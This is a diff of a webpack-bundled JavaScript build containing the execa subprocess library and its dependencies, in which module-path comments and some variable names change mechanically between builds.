@@ -29119,7 +35689,7 @@ function whichCommandAllSync(command, options = {}) {
 	return [...new Set(found)];
 }
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/arguments/command-file.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/arguments/command-file.js
 
 
 
@@ -29167,7 +35737,7 @@ const escapeWindowsCommand = parsed => {
 
 	Unlike Rust, which quotes the batch file's path, the file is caret-escaped. `cmd.exe` only interprets it once, and the file might not be resolved, for example when it is a `cmd.exe` builtin, which would not run if quoted.
 	*/
-	const escapedFile = escapeMetaChars(external_node_path_namespaceObject.normalize(resolvedFile ?? parsed.file));
+	const escapedFile = escapeMetaChars(external_node_path_.normalize(resolvedFile ?? parsed.file));
 	const escapedArguments = parsed.commandArguments.map(argument => escapeArgument(argument));
 	const commandLine = `"${[escapedFile, ...escapedArguments].join(' ')}"`;
 
@@ -29200,11 +35770,11 @@ const resolvePath = parsed => {
 	const environment = parsed.options.env || external_node_process_namespaceObject.env;
 	const cwd = parsed.options.cwd ?? external_node_process_namespaceObject.cwd();
 	const environmentPathExt = getWindowsEnvironmentValue(environment, 'PATHEXT');
-	const commandExtension = external_node_path_namespaceObject.extname(parsed.file);
+	const commandExtension = external_node_path_.extname(parsed.file);
 	// Commands with an explicit extension must be tried verbatim so shebang scripts work even when their extension is excluded from PATHEXT.
-	const pathExt = commandExtension === '' ? environmentPathExt : `${commandExtension}${external_node_path_namespaceObject.delimiter}${environmentPathExt ?? ''}`;
+	const pathExt = commandExtension === '' ? environmentPathExt : `${commandExtension}${external_node_path_.delimiter}${environmentPathExt ?? ''}`;
 	if (hasWindowsPathSeparator(parsed.file)) {
-		return whichCommandSync(external_node_path_namespaceObject.resolve(cwd, parsed.file), {cwd, pathExt});
+		return whichCommandSync(external_node_path_.resolve(cwd, parsed.file), {cwd, pathExt});
 	}
 
 	const searchPath = getWindowsEnvironmentValue(environment, 'PATH') ?? getWindowsEnvironmentValue(external_node_process_namespaceObject.env, 'PATH') ?? '';
@@ -29222,13 +35792,13 @@ const hasWindowsPathSeparator = file => file.includes('/') || file.includes('\\'
 const shouldSearchCurrentDirectory = environment => getWindowsEnvironmentValue(external_node_process_namespaceObject.env, 'NODEFAULTCURRENTDIRECTORYINEXEPATH') === undefined && getWindowsEnvironmentValue(environment, 'NODEFAULTCURRENTDIRECTORYINEXEPATH') === undefined;
 
 const resolvePathDirectories = (file, {cwd, path: searchPath, pathExt}) => {
-	for (const directory of searchPath.split(external_node_path_namespaceObject.delimiter)) {
+	for (const directory of searchPath.split(external_node_path_.delimiter)) {
 		const unquotedDirectory = directory.length > 1 && directory.startsWith('"') && directory.endsWith('"') ? directory.slice(1, -1) : directory;
 		if (unquotedDirectory === '') {
 			continue;
 		}
 
-		const resolvedFile = whichCommandSync(external_node_path_namespaceObject.resolve(cwd, unquotedDirectory, file), {cwd, pathExt});
+		const resolvedFile = whichCommandSync(external_node_path_.resolve(cwd, unquotedDirectory, file), {cwd, pathExt});
 		if (resolvedFile !== undefined) {
 			return resolvedFile;
 		}
@@ -29249,11 +35819,11 @@ const readShebang = file => {
 	let bytesRead = 0;
 
 	try {
-		const fileDescriptor = (0,external_node_fs_namespaceObject.openSync)(file, 'r');
+		const fileDescriptor = (0,external_node_fs_.openSync)(file, 'r');
 		try {
-			bytesRead = (0,external_node_fs_namespaceObject.readSync)(fileDescriptor, buffer, 0, SHEBANG_BYTE_LENGTH, 0);
+			bytesRead = (0,external_node_fs_.readSync)(fileDescriptor, buffer, 0, SHEBANG_BYTE_LENGTH, 0);
 		} finally {
-			(0,external_node_fs_namespaceObject.closeSync)(fileDescriptor);
+			(0,external_node_fs_.closeSync)(fileDescriptor);
 		}
 	} catch {
 		return undefined;
@@ -29354,7 +35924,7 @@ const shouldQuoteArgument = argument => argument === ''
 	|| argument.endsWith('\\')
 	|| quotedCharacterRegExp.test(argument);
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/arguments/cwd.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/arguments/cwd.js
 
 
 
@@ -29363,7 +35933,7 @@ const shouldQuoteArgument = argument => argument === ''
 // Normalize `cwd` option
 const normalizeCwd = (cwd = getDefaultCwd()) => {
 	const cwdString = safeNormalizeFileUrl(cwd, 'The "cwd" option');
-	return external_node_path_namespaceObject.resolve(cwdString);
+	return external_node_path_.resolve(cwdString);
 };
 
 const getDefaultCwd = () => {
@@ -29391,7 +35961,7 @@ const fixCwdError = (originalMessage, cwd) => {
 
 	let cwdStat;
 	try {
-		cwdStat = (0,external_node_fs_namespaceObject.statSync)(cwd);
+		cwdStat = (0,external_node_fs_.statSync)(cwd);
 	} catch (error) {
 		return `The "cwd" option is invalid: ${cwd}.\n${error.message}\n${originalMessage}`;
 	}
@@ -29399,7 +35969,7 @@ const fixCwdError = (originalMessage, cwd) => {
 	return cwdStat.isDirectory() ? originalMessage : `The "cwd" option is not a directory: ${cwd}.\n${originalMessage}`;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/arguments/options.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/arguments/options.js
 
 
 
@@ -29446,7 +36016,7 @@ const normalizeOptions = (filePath, rawArguments, rawOptions) => {
 	options.lines = options.lines.map((lines, fdNumber) => lines && !BINARY_ENCODINGS.has(options.encoding) && options.buffer[fdNumber]);
 
 	// The file is now an absolute path resolved via `PATHEXT`, so its extension might be uppercase (`cmd.EXE`)
-	if (external_node_process_namespaceObject.platform === 'win32' && cmdExeRegExp.test(external_node_path_namespaceObject.basename(file))) {
+	if (external_node_process_namespaceObject.platform === 'win32' && cmdExeRegExp.test(external_node_path_.basename(file))) {
 		// #116
 		commandArguments.unshift('/q');
 	}
@@ -29545,7 +36115,7 @@ const computeEnv = ({env: envOption, extendEnv, preferLocal, node, localDirector
 };
 
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/arguments/shell.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/arguments/shell.js
 // When the `shell` option is set, any command argument is concatenated as a single string by Node.js:
 // https://github.com/nodejs/node/blob/e38ce27f3ca0a65f68a31cedd984cddb927d4002/lib/child_process.js#L614-L624
 // However, since Node 24, it also prints a deprecation warning.
@@ -29558,7 +36128,7 @@ const concatenateShell = (file, commandArguments, options) => options.shell && c
 	? [[file, ...commandArguments].join(' '), [], options]
 	: [file, commandArguments, options];
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/transform/split.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/transform/split.js
 
 
 // Split chunks line-wise for generators passed to the `std*` options
@@ -29686,7 +36256,7 @@ const LINES_BYTES_INFO = {
 	},
 };
 
-;// CONCATENATED MODULE: ./node_modules/strip-final-newline/index.js
+;// CONCATENATED MODULE: ../main/node_modules/strip-final-newline/index.js
 function strip_final_newline_stripFinalNewline(input) {
 	if (typeof input === 'string') {
 		return stripFinalNewlineString(input);
@@ -29714,7 +36284,7 @@ const LF_BINARY = LF.codePointAt(0);
 const CR = '\r';
 const CR_BINARY = CR.codePointAt(0);
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/io/strip-newline.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/io/strip-newline.js
 
 
 // Apply `stripFinalNewline` option, which applies to `result.stdout|stderr|all|stdio[*]`.
@@ -29729,7 +36299,7 @@ const getStripFinalNewline = (stripFinalNewline, fdNumber, allFds) => fdNumber =
 	? allFds.some(allFd => stripFinalNewline[allFd])
 	: stripFinalNewline[fdNumber];
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/resolve/all-sync.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/resolve/all-sync.js
 
 
 
@@ -29787,7 +36357,7 @@ const splitAllLines = (value, allFds, options) => value === undefined || Array.i
 	? value
 	: splitLinesSync(value, !getStripFinalNewline(options.stripFinalNewline, 'all', allFds), false);
 
-;// CONCATENATED MODULE: ./node_modules/is-stream/index.js
+;// CONCATENATED MODULE: ../main/node_modules/is-stream/index.js
 function isStream(stream, {checkOpen = true} = {}) {
 	return stream !== null
 		&& typeof stream === 'object'
@@ -29826,7 +36396,7 @@ function isTransformStream(stream, options) {
 		&& typeof stream._transform === 'function';
 }
 
-;// CONCATENATED MODULE: ./node_modules/@sec-ant/readable-stream/dist/ponyfill/asyncIterator.js
+;// CONCATENATED MODULE: ../main/node_modules/@sec-ant/readable-stream/dist/ponyfill/asyncIterator.js
 const a = Object.getPrototypeOf(
   Object.getPrototypeOf(
     /* istanbul ignore next */
@@ -29915,12 +36485,12 @@ function h({ preventCancel: r = !1 } = {}) {
 }
 
 
-;// CONCATENATED MODULE: ./node_modules/@sec-ant/readable-stream/dist/ponyfill/index.js
+;// CONCATENATED MODULE: ../main/node_modules/@sec-ant/readable-stream/dist/ponyfill/index.js
 
 
 
 
-;// CONCATENATED MODULE: ./node_modules/get-stream/source/stream.js
+;// CONCATENATED MODULE: ../main/node_modules/get-stream/source/stream.js
 
 
 
@@ -29987,7 +36557,7 @@ const handleStreamEnd = async (stream, controller, state) => {
 // This prevents using dynamic imports.
 const nodeImports = {};
 
-;// CONCATENATED MODULE: ./node_modules/get-stream/source/contents.js
+;// CONCATENATED MODULE: ../main/node_modules/get-stream/source/contents.js
 
 
 const getStreamContents = async (stream, {init, convertChunk, getSize, truncateChunk, addChunk, getFinalChunk, finalize}, {maxBuffer = Number.POSITIVE_INFINITY} = {}) => {
@@ -30110,7 +36680,7 @@ class MaxBufferError extends Error {
 	}
 }
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/io/max-buffer.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/io/max-buffer.js
 
 
 
@@ -30215,7 +36785,7 @@ const truncateMaxBufferSync = (result, fdNumber, {maxBuffer, buffer}) => {
 	return buffer[fdNumber] && result.length > maxBufferValue ? result.slice(0, maxBufferValue) : result;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/return/message.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/return/message.js
 
 
 
@@ -30373,7 +36943,7 @@ const serializeMessageItem = messageItem => {
 	return isUint8Array(messageItem) ? uint8ArrayToString(messageItem) : '';
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/return/result.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/return/result.js
 
 
 
@@ -30585,7 +37155,7 @@ const normalizeExitPayload = (rawExitCode, rawSignal) => {
 	return {exitCode, signal, signalDescription};
 };
 
-;// CONCATENATED MODULE: ./node_modules/parse-ms/index.js
+;// CONCATENATED MODULE: ../main/node_modules/parse-ms/index.js
 const toZeroIfInfinity = value => Number.isFinite(value) ? value : 0;
 
 function parseNumber(milliseconds) {
@@ -30632,7 +37202,7 @@ function parseMilliseconds(milliseconds) {
 	throw new TypeError('Expected a finite number or bigint');
 }
 
-;// CONCATENATED MODULE: ./node_modules/pretty-ms/index.js
+;// CONCATENATED MODULE: ../main/node_modules/pretty-ms/index.js
 
 
 const isZero = value => value === 0 || value === 0n;
@@ -30784,7 +37354,7 @@ function prettyMilliseconds(milliseconds, options) {
 	return sign + result.join(separator);
 }
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/verbose/error.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/verbose/error.js
 
 
 // When `verbose` is `short|full|custom`, print each command's error when it fails
@@ -30799,7 +37369,7 @@ const logError = (result, verboseInfo) => {
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/verbose/complete.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/verbose/complete.js
 
 
 
@@ -30825,7 +37395,7 @@ const logDuration = (result, verboseInfo) => {
 	});
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/return/reject.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/return/reject.js
 
 
 // Applies the `reject` option.
@@ -30840,7 +37410,7 @@ const handleResult = (result, verboseInfo, {reject}) => {
 	return result;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/stdio/type.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/stdio/type.js
 
 
 
@@ -31010,7 +37580,7 @@ const TYPE_TO_MESSAGE = {
 	uint8Array: 'a Uint8Array',
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/transform/object-mode.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/transform/object-mode.js
 
 
 /*
@@ -31053,7 +37623,7 @@ const getFdObjectMode = (stdioItems, direction) => {
 		: lastTransform.value.readableObjectMode;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/transform/normalize.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/transform/normalize.js
 
 
 
@@ -31161,7 +37731,7 @@ const normalizeGenerator = ({stdioItem, stdioItem: {value}, index, newTransforms
 
 const sortTransforms = (newTransforms, direction) => direction === 'input' ? newTransforms.reverse() : newTransforms;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/stdio/direction.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/stdio/direction.js
 
 
 
@@ -31279,13 +37849,13 @@ const getStandardStreamDirection = value => {
 // When the ambiguity remains, we default to `output` since it is the most common use case for additional file descriptors.
 const DEFAULT_DIRECTION = 'output';
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/array.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/array.js
 // The `ipc` option adds an `ipc` item to the `stdio` option
 const normalizeIpcStdioArray = (stdioArray, ipc) => ipc
 	? [...stdioArray, 'ipc']
 	: stdioArray;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/stdio/stdio-option.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/stdio/stdio-option.js
 
 
 
@@ -31378,7 +37948,7 @@ const isFixedOutputPipe = (fdNumber, input) => input === true && isStandardOutpu
 
 const isStandardOutputFd = fdNumber => fdNumber === 1 || fdNumber === 2;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/arguments/fd-options.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/arguments/fd-options.js
 
 
 // Retrieve stream targeted by the `to` option
@@ -31485,7 +38055,7 @@ const serializeOptionValue = value => {
 	return typeof value === 'number' ? `${value}` : 'Stream';
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/stdio/native.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/stdio/native.js
 
 
 
@@ -31545,7 +38115,7 @@ const getTargetFd = ({value, optionName, fdNumber, direction}) => {
 	}
 
 	// The file descriptor is read lazily, like `inputFile`, so that a read failure is reported like any other early error, instead of being thrown as a raw error
-	return {type: 'uint8Array', contents: () => [bufferToUint8Array((0,external_node_fs_namespaceObject.readFileSync)(targetFdNumber))], optionName};
+	return {type: 'uint8Array', contents: () => [bufferToUint8Array((0,external_node_fs_.readFileSync)(targetFdNumber))], optionName};
 };
 
 const getTargetFdNumber = (value, fdNumber) => {
@@ -31590,7 +38160,7 @@ const getStandardStream = (fdNumber, value, optionName) => {
 	return standardStream;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/stdio/input-option.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/stdio/input-option.js
 
 
 
@@ -31646,7 +38216,7 @@ const getInputFileType = inputFile => {
 	throw new Error('The `inputFile` option must be a file path string or a file URL.');
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/stdio/duplicate.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/stdio/duplicate.js
 
 
 
@@ -31656,7 +38226,7 @@ const isFileType = type => SPECIAL_DUPLICATE_TYPES_SYNC.has(type);
 
 // The file that a `filePath` or `fileUrl` stdio item targets, as an absolute path
 const getFileTarget = ({type, value}) => type === 'filePath'
-	? external_node_path_namespaceObject.resolve(value.file)
+	? external_node_path_.resolve(value.file)
 	: (0,external_node_url_namespaceObject.fileURLToPath)(value);
 
 // Duplicates in the same file descriptor is most likely an error.
@@ -31772,7 +38342,7 @@ const throwOnDuplicateStream = (stdioItem, optionName, type) => {
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/stdio/handle.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/stdio/handle.js
 
 
 
@@ -32066,7 +38636,7 @@ const forwardStdio = stdioItems => {
 	return type === 'native' ? value : 'pipe';
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/stdio/handle-sync.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/stdio/handle-sync.js
 
 
 
@@ -32127,8 +38697,8 @@ const addPropertiesSync = {
 		generator: forbiddenInputTransformIfSync,
 		native: forbiddenNativeInputIfSync,
 		// Files and iterables are read lazily, so that a file which cannot be read, or an iterable which throws, is reported like any other early error, instead of being thrown as a raw error
-		fileUrl: ({value}) => ({contents: () => [bufferToUint8Array((0,external_node_fs_namespaceObject.readFileSync)(value))]}),
-		filePath: ({value: {file}}) => ({contents: () => [bufferToUint8Array((0,external_node_fs_namespaceObject.readFileSync)(file))]}),
+		fileUrl: ({value}) => ({contents: () => [bufferToUint8Array((0,external_node_fs_.readFileSync)(value))]}),
+		filePath: ({value: {file}}) => ({contents: () => [bufferToUint8Array((0,external_node_fs_.readFileSync)(file))]}),
 		fileNumber: forbiddenIfSync,
 		iterable: ({value}) => ({contents: () => [...value]}),
 		string: ({value}) => ({contents: [value]}),
@@ -32148,7 +38718,7 @@ const addPropertiesSync = {
 
 ;// CONCATENATED MODULE: external "node:stream"
 const external_node_stream_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream");
-;// CONCATENATED MODULE: ./node_modules/execa/lib/transform/validate.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/transform/validate.js
 
 
 
@@ -32193,7 +38763,7 @@ Instead, \`yield\` should either be called with a value, or not be called at all
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/transform/encoding-transform.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/transform/encoding-transform.js
 
 
 
@@ -32261,7 +38831,7 @@ const stringToBytesGenerator = function * (stringEncoding, chunk) {
 	yield typeof chunk === 'string' ? bufferToUint8Array(external_node_buffer_namespaceObject.Buffer.from(chunk, stringEncoding)) : chunk;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/transform/run-async.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/transform/run-async.js
 
 
 // Applies a series of generator functions asynchronously
@@ -32323,7 +38893,7 @@ const identityGenerator = function * (chunk) {
 	yield chunk;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/transform/run-sync.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/transform/run-sync.js
 // Duplicate the code from `run-async.js` but as synchronous functions
 const pushChunksSync = (getChunksSync, getChunksArguments, transformStream, done) => {
 	try {
@@ -32387,7 +38957,7 @@ const run_sync_identityGenerator = function * (chunk) {
 	yield chunk;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/transform/generator.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/transform/generator.js
 
 
 
@@ -32504,7 +39074,7 @@ const addInternalGenerators = (
 	].filter(Boolean);
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/io/input-sync.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/io/input-sync.js
 
 
 
@@ -32565,7 +39135,7 @@ const throwOnSerializableInput = (optionName, invalidItem) => {
 	throw new TypeError(`The \`${optionName}\` option is invalid: when passing objects as input, a transform must be used to serialize them to strings or Uint8Arrays: ${invalidItem}.`);
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/verbose/output.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/verbose/output.js
 
 
 
@@ -32629,7 +39199,7 @@ const logLine = (line, fdNumber, verboseInfo) => {
 	});
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/io/output-sync.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/io/output-sync.js
 
 
 
@@ -32783,16 +39353,16 @@ const writeToFiles = (chunks, stdioItems, outputFiles) => {
 		writtenPaths.add(path);
 		// Like with asynchronous methods, when several file descriptors target the same file, the first one decides whether it is appended to
 		if (append || outputFiles.has(path)) {
-			(0,external_node_fs_namespaceObject.appendFileSync)(path, contents);
+			(0,external_node_fs_.appendFileSync)(path, contents);
 		} else {
-			(0,external_node_fs_namespaceObject.writeFileSync)(path, contents);
+			(0,external_node_fs_.writeFileSync)(path, contents);
 		}
 
 		outputFiles.add(path);
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/resolve/exit-async.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/resolve/exit-async.js
 
 
 
@@ -32848,7 +39418,7 @@ const isSubprocessErrorExit = (exitCode, signal) => exitCode === undefined && si
 // When the subprocess fails due to a non-0 exit code or to a signal termination
 const isFailedExit = (exitCode, signal) => exitCode !== 0 || signal !== null;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/resolve/exit-sync.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/resolve/exit-sync.js
 
 
 
@@ -32883,7 +39453,7 @@ const getResultError = (error, exitCode, signal) => {
 	return isFailedExit(exitCode, signal) ? new DiscardedError() : undefined;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/methods/main-sync.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/methods/main-sync.js
 
 
 
@@ -33055,7 +39625,7 @@ const getSyncResult = ({error, exitCode, signal, timedOut, isMaxBuffer, stdio, a
 		isSync: true,
 	});
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/get-one.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/get-one.js
 
 
 
@@ -33150,7 +39720,7 @@ const throwOnStrictError = async (ipcEmitter, isSubprocess, {signal}) => {
 	throw getStrictResponseError(error, isSubprocess);
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/get-each.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/get-each.js
 
 
 
@@ -33269,7 +39839,7 @@ const throwIfStrictError = ({error}) => {
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/methods.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/methods.js
 
 
 
@@ -33321,7 +39891,7 @@ const getIpcMethods = (anyProcess, isSubprocess, ipc, waitProcess = anyProcess) 
 	}),
 });
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/return/early-error.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/return/early-error.js
 
 
 
@@ -33436,7 +40006,7 @@ const handleDummyPromise = async ({error, command, escapedCommand, fileDescripto
 	return handleResult(earlyError, verboseInfo, options);
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/stdio/handle-async.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/stdio/handle-async.js
 
 
 
@@ -33505,8 +40075,8 @@ const addPropertiesAsync = {
 		...handle_async_addProperties,
 		generator: generatorToInputStream,
 		asyncGenerator: generatorToInputStream,
-		fileUrl: ({value}) => ({stream: (0,external_node_fs_namespaceObject.createReadStream)(value)}),
-		filePath: ({value: {file}}) => ({stream: (0,external_node_fs_namespaceObject.createReadStream)(file)}),
+		fileUrl: ({value}) => ({stream: (0,external_node_fs_.createReadStream)(value)}),
+		filePath: ({value: {file}}) => ({stream: (0,external_node_fs_.createReadStream)(file)}),
 		webStream: ({value}, options, objectMode) => ({stream: external_node_stream_namespaceObject.Readable.fromWeb(value, {objectMode})}),
 		iterable: ({value, optionName}, options, objectMode) => ({stream: external_node_stream_namespaceObject.Readable.from(objectMode ? value : validateIterable(value, optionName))}),
 		asyncIterable: ({value, optionName}, options, objectMode) => ({stream: external_node_stream_namespaceObject.Readable.from(objectMode ? value : validateAsyncIterable(value, optionName))}),
@@ -33515,8 +40085,8 @@ const addPropertiesAsync = {
 	},
 	output: {
 		...handle_async_addProperties,
-		fileUrl: ({value}) => ({stream: (0,external_node_fs_namespaceObject.createWriteStream)(value)}),
-		filePath: ({value: {file, append}}) => ({stream: (0,external_node_fs_namespaceObject.createWriteStream)(file, append ? {flags: 'a'} : {})}),
+		fileUrl: ({value}) => ({stream: (0,external_node_fs_.createWriteStream)(value)}),
+		filePath: ({value: {file, append}}) => ({stream: (0,external_node_fs_.createWriteStream)(file, append ? {flags: 'a'} : {})}),
 		// Web writers accept arbitrary chunks, including when a shared writer receives both bytes and objects.
 		webStream: ({value}) => ({stream: external_node_stream_namespaceObject.Writable.fromWeb(value, {objectMode: true})}),
 		iterable: forbiddenIfAsync,
@@ -33528,7 +40098,7 @@ const addPropertiesAsync = {
 
 ;// CONCATENATED MODULE: external "node:stream/promises"
 const external_node_stream_promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream/promises");
-;// CONCATENATED MODULE: ./node_modules/@sindresorhus/merge-streams/index.js
+;// CONCATENATED MODULE: ../main/node_modules/@sindresorhus/merge-streams/index.js
 
 
 
@@ -33795,7 +40365,7 @@ const PASSTHROUGH_LISTENERS_COUNT = 2;
 //  - once due to `stream.pipe(passThroughStream)`
 const PASSTHROUGH_LISTENERS_PER_STREAM = 1;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/io/pipeline.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/io/pipeline.js
 
 
 
@@ -33850,7 +40420,7 @@ const abortSourceStream = source => {
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/io/output-async.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/io/output-async.js
 
 
 
@@ -33936,7 +40506,7 @@ const MAX_LISTENERS_INCREMENT = 2;
 
 ;// CONCATENATED MODULE: external "node:path/win32"
 const win32_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path/win32");
-;// CONCATENATED MODULE: ./node_modules/execa/lib/terminate/kill-descendants.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/terminate/kill-descendants.js
 
 
 
@@ -34033,7 +40603,7 @@ const isWindowsDriveAbsolutePath = directory => {
 	return /^[a-z]:[/\\]/i.test(root);
 };
 
-;// CONCATENATED MODULE: ./node_modules/signal-exit/dist/mjs/signals.js
+;// CONCATENATED MODULE: ../main/node_modules/signal-exit/dist/mjs/signals.js
 /**
  * This is not the set of all possible signals.
  *
@@ -34073,7 +40643,7 @@ if (process.platform === 'linux') {
     signals.push('SIGIO', 'SIGPOLL', 'SIGPWR', 'SIGSTKFLT');
 }
 //# sourceMappingURL=signals.js.map
-;// CONCATENATED MODULE: ./node_modules/signal-exit/dist/mjs/index.js
+;// CONCATENATED MODULE: ../main/node_modules/signal-exit/dist/mjs/index.js
 // Note: since nyc uses this module to output coverage, any lines
 // that are in the direct sync flow of nyc's outputCoverage are
 // ignored, since we can never get coverage for them.
@@ -34090,7 +40660,7 @@ const processOk = (process) => !!process &&
     typeof process.pid === 'number' &&
     typeof process.on === 'function';
 const kExitEmitter = Symbol.for('signal-exit emitter');
-const global = globalThis;
+const mjs_global = globalThis;
 const ObjectDefineProperty = Object.defineProperty.bind(Object);
 // teeny special purpose ee
 class Emitter {
@@ -34105,10 +40675,10 @@ class Emitter {
     count = 0;
     id = Math.random();
     constructor() {
-        if (global[kExitEmitter]) {
-            return global[kExitEmitter];
+        if (mjs_global[kExitEmitter]) {
+            return mjs_global[kExitEmitter];
         }
-        ObjectDefineProperty(global, kExitEmitter, {
+        ObjectDefineProperty(mjs_global, kExitEmitter, {
             value: this,
             writable: false,
             enumerable: false,
@@ -34349,7 +40919,7 @@ load,
  */
 unload, } = signalExitWrap(processOk(mjs_process) ? new SignalExit(mjs_process) : new SignalExitFallback());
 //# sourceMappingURL=index.js.map
-;// CONCATENATED MODULE: ./node_modules/execa/lib/terminate/cleanup.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/terminate/cleanup.js
 
 
 
@@ -34367,7 +40937,7 @@ const cleanupOnExit = (kill, {cleanup, detached}, {signal}) => {
 	});
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/convert/concurrent.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/convert/concurrent.js
 
 
 // When using multiple `.readable()`/`.writable()`/`.duplex()`, `final` and `destroy` should wait for other streams
@@ -34402,7 +40972,7 @@ const waitForConcurrentStreams = async ({resolve, promises}, subprocess) => {
 	return !isSubprocessExit;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/io/iterate.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/io/iterate.js
 
 
 
@@ -34514,7 +41084,7 @@ const getGenerators = ({binary, shouldEncode, encoding, shouldSplit, preserveNew
 	getSplitLinesGenerator(binary, preserveNewlines, !shouldSplit, {}),
 ].filter(Boolean);
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/convert/iterable.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/convert/iterable.js
 
 
 
@@ -34550,7 +41120,7 @@ const iterateOnStdoutData = async function * (onStdoutData, subprocessStdout, su
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/resolve/wait-stream.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/resolve/wait-stream.js
 
 
 // Wraps `finished(stream)` to handle the following case:
@@ -34673,7 +41243,7 @@ const isStreamAbort = error => error?.code === 'ERR_STREAM_PREMATURE_CLOSE';
 // Therefore, we ignore this error on writable streams.
 const isStreamEpipe = error => error?.code === 'EPIPE';
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/convert/shared.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/convert/shared.js
 
 
 
